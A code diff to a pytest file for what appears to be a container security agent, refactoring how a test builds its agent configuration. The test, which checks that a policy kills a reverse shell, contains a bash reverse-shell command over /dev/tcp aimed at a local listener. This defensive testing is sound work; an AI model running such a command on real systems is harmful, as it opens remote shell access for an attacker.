@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from stockade.agent import Agent, AgentConfig
+from stockade.agent import Agent
 from tests.support.agent_runner import AgentRunner
 from tests.support.platform_runner import PlatformRunner
 from tests.support.podman import Podman
@@ -60,14 +60,7 @@ def test_policy_kills_a_reverse_shell_before_its_second_answer(
     container = podman.run_detached(image, "sleep", "600", extra=("--network", "host"))
     policy = tmp_path / "policy.yaml"
     policy.write_text(POLICY)
-    config = AgentConfig(
-        tmp_path / "agent",
-        platform.agent_url,
-        platform.token(),
-        platform.ca_fingerprint,
-        scan_images=False,
-        policies=(policy,),
-    )
+    config = platform.agent_config(tmp_path / "agent", policies=(policy,))
     with socket.create_server(("127.0.0.1", 0)) as listener, AgentRunner(Agent(config)):
         port = listener.getsockname()[1]
         shell = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
